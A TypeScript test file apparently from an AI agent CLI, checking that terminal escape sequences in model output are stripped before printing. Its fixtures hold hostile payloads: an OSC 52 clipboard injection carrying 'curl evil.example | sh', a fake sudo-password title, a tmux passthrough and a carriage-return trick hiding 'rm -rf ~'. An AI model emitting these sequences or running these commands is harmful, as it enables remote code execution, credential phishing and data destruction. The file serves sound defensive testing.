import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CliDeps } from '../../src/cli/cli-io.js';
import { runCli } from '../../src/cli/run-cli.js';
import { notesPlugin } from '../runtime/fixtures/fake-plugin.js';
import { FakeProvider, type FakeTurn } from '../runtime/fixtures/fake-provider.js';
import { makeEnv, type TestEnv } from '../runtime/fixtures/setup.js';

const ESC = '\x1b';
// what a model (or a prompt injection through it) writes into its text and its answer
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const TITLE = `\x9d0;sudo password required\x9c`;
const CLEAR = `${ESC}[2J${ESC}[H\x9b6n`;
const TMUX = `${ESC}Ptmux;${ESC}${ESC}]52;c;aGk=\x07${ESC}\\`;
const OVERWRITE = 'rm -rf ~\r# nothing to see';

function turns(): FakeTurn[] {
  return [
    { text: `Reading.${CLIPBOARD}`, toolCalls: [{ name: 'read_notes', args: {} }] },
    {
      toolCalls: [
        { name: 'write_json', args: { path: 'count.json', value: { count: 3, title: `n${TITLE}` } } },
        { name: 'write_md', args: { path: 'report.md', text: `# Report${CLEAR}\n\n## Summary\n\nThree lines.\n` } },
      ],
    },
    { text: `Done: 3 notes.${TITLE}${CLEAR}${TMUX} ${ESC}[32mgreen${ESC}[0m ${OVERWRITE}` },
  ];
}

class TtySink {
  text = '';
  isTTY = true;
  columns = 120;
  write(s: string) {
    this.text += s;
    return true;
  }
}

/** Every ESC, C1 or C0 (but \n, \t) a terminal would act on, SGR aside; the CLI's own status-line erase aside. */
function actionable(out: string): string[] {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: an SGR and the status line's erase start with ESC
  const rest = out.replace(/\x1b\[[0-9;]*m/g, '').replace(/\r\x1b\[2K/g, '');
  return [...rest].filter((ch) => {
    const c = ch.charCodeAt(0);
    return (c < 0x20 && ch !== '\n' && ch !== '\t') || (c >= 0x7f && c <= 0x9f);
  });
}

let env: TestEnv;
beforeEach(() => {
  env = makeEnv();
});
afterEach(() => env.cleanup());

function deps(): { d: CliDeps; stdout: TtySink; stderr: TtySink } {
  const stdout = new TtySink();
  const stderr = new TtySink();
  const d: CliDeps = {
    agents: [notesPlugin()],
    stdout,
    stderr,
    env: { RUNTRAIL_DATA_DIR: env.dataDir },
    cwd: env.dir,
    skillsDir: env.skillsDir,
    providerResolver: () => new FakeProvider(turns()),
  };
  return { d, stdout, stderr };
}

describe('what a run prints reaches the terminal without control sequences (run, show, replay)', () => {
  it('run (live, on a TTY), show and replay print the answer without OSC, DCS or cursor control, colour and words kept', async () => {
    const r = deps();
    expect(await runCli(['run', 'notes', '--input', `notes_path=${env.notesPath}`, '--goal', 'count them'], r.d)).toBe(0);
    const runId = /run (run_\S+) completed/.exec(r.stdout.text + r.stderr.text)![1];
    // the CLI's own status line is still erased on a TTY
    expect(r.stdout.text).toContain('\r\x1b[2K');
    const s = deps();
    expect(await runCli(['show', runId], s.d)).toBe(0);
    const p = deps();
    expect(await runCli(['replay', runId], p.d)).toBe(0);
    const j = deps();
    expect(await runCli(['replay', runId, '--format', 'ndjson'], j.d)).toBe(0);
    for (const [name, out] of [
      ['run', r],
      ['show', s],
      ['replay', p],
      ['replay ndjson', j],
    ] as const) {
      const text = out.stdout.text + out.stderr.text;
      expect(actionable(text), name).toEqual([]);
      expect(text, name).toContain('Done: 3 notes.');
      expect(text, name).not.toContain('sudo password required');
    }
    // colour stays, and the overwritten command is shown on a line of its own
    expect(p.stdout.text).toContain(`${ESC}[32mgreen${ESC}[0m`);
    expect(p.stdout.text).toContain('rm -rf ~\n# nothing to see');
  });
});
